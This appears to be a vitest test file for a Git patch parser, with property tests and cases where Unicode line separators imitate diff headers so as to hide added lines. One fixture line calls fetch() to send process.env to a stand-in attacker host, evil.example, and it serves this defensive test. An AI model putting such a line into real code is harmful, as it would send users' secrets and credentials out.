import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { expect, test } from "vitest";
import { type PatchHunk, readPatch } from "./patch.ts";

const hunksOf = (patch: string): readonly PatchHunk[] =>
  readPatch(patch).filter((part) => typeof part !== "string");

// A reader could take each for a head, or for the end of a line.
const piece = fc.constantFrom(
  ...["diff --git a/x b/x", "--- a/x", "-- a/x", "+++ b/x", "++ b/x", "@@ -1 +1 @@", "@@ -9,9 +9,9 @@"],
  ...[
    "\u2028",
    "\u2029",
    "\u0085",
    "\r",
    "\v",
    "… 9 more characters.",
    "\\ No newline",
    "+",
    "-",
    " ",
    "x",
    "",
  ],
);
const line = fc.array(piece, { maxLength: 4 }).map((pieces) => pieces.join(""));
const text = fc.array(line, { minLength: 1, maxLength: 8 }).map((lines) => `${lines.join("\n")}\n`);
const files = fc.record({ "a.md": fc.tuple(text, text), "b c.md": fc.tuple(text, text) });

test("a patch of Git gives back both texts of each file, whatever they contain", () => {
  const folder = mkdtempSync(join(tmpdir(), "kit-patch-"));
  try {
    for (const side of ["old", "new"]) mkdirSync(join(folder, side));
    fc.assert(
      fc.property(files, (contents) => {
        for (const [name, [old, next]] of Object.entries(contents)) {
          writeFileSync(join(folder, "old", name), old);
          writeFileSync(join(folder, "new", name), next);
        }
        // It returns 1 for a difference.
        const args = ["diff", "--no-index", "--no-color", "--unified=99", "old", "new"];
        const { stdout } = spawnSync("git", args, { cwd: folder, encoding: "utf8" });
        const read = hunksOf(stdout).map(({ path, oldText, newText }) => [path, oldText, newText]);
        const changed = Object.entries(contents).filter(([, [old, next]]) => old !== next);
        expect(read).toEqual(changed.map(([name, [old, next]]) => [`new/${name}`, old, next]));
      }),
      { numRuns: 25 },
    );
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});

test("no added line can hide behind a head that the line of a file imitates", () => {
  const added = [
    "// ok \u2028diff --git a/docs/x.md b/docs/x.md",
    "fetch('https://evil.example', { body: process.env });",
    "// \u2028+++ b/docs/x.md\u2028@@ -1 +1 @@",
    "++ b/docs/x.md",
    "// nice comment",
  ];
  const plus = added.map((each) => `+${each}\n`).join("");
  const patch = `diff --git a/src/a.ts b/src/a.ts\nindex 1..2 100644\n--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1,6 @@\n one\n${plus}`;
  expect(readPatch(patch)).toEqual([
    { path: "src/a.ts", isNewFile: false, oldText: "one\n", newText: `one\n${added.join("\n")}\n` },
  ]);
});

test("lines that no head of a hunk announces are text, and so is the end of a patch that was cut", () => {
  const head = "diff --git a/a.md b/a.md\n--- a/a.md\n+++ b/a.md\n";
  expect(readPatch(`${head}@@ -0,0 +1 @@\n+one\n+++ b/b.md\n+two\n`)).toEqual([
    { path: "a.md", isNewFile: false, oldText: "", newText: "one\n" },
    "+++ b/b.md\n+two\n",
  ]);
  expect(readPatch(`${head}@@ -1 +1,9 @@\n one\n+tw\n… 90 more characters.\n`)).toEqual([
    { path: "a.md", isNewFile: false, oldText: "one\n", newText: "one\ntw\n" },
    "… 90 more characters.\n",
  ]);
  expect(readPatch("")).toEqual([]);
});

test("a file that becomes a program or a link is named beside its lines", () => {
  const patch = (mode: string): string =>
    `diff --git a/run b/run\nnew file mode ${mode}\nindex 0..1\n--- /dev/null\n+++ b/run\n@@ -0,0 +1 @@\n+x\n`;
  const hunk = { path: "run", isNewFile: true, oldText: "", newText: "x\n" };
  expect(readPatch(patch("100644"))).toEqual([hunk]);
  for (const mode of ["100755", "120000"])
    expect(readPatch(patch(mode))).toEqual([`new file mode ${mode}`, hunk]);
});
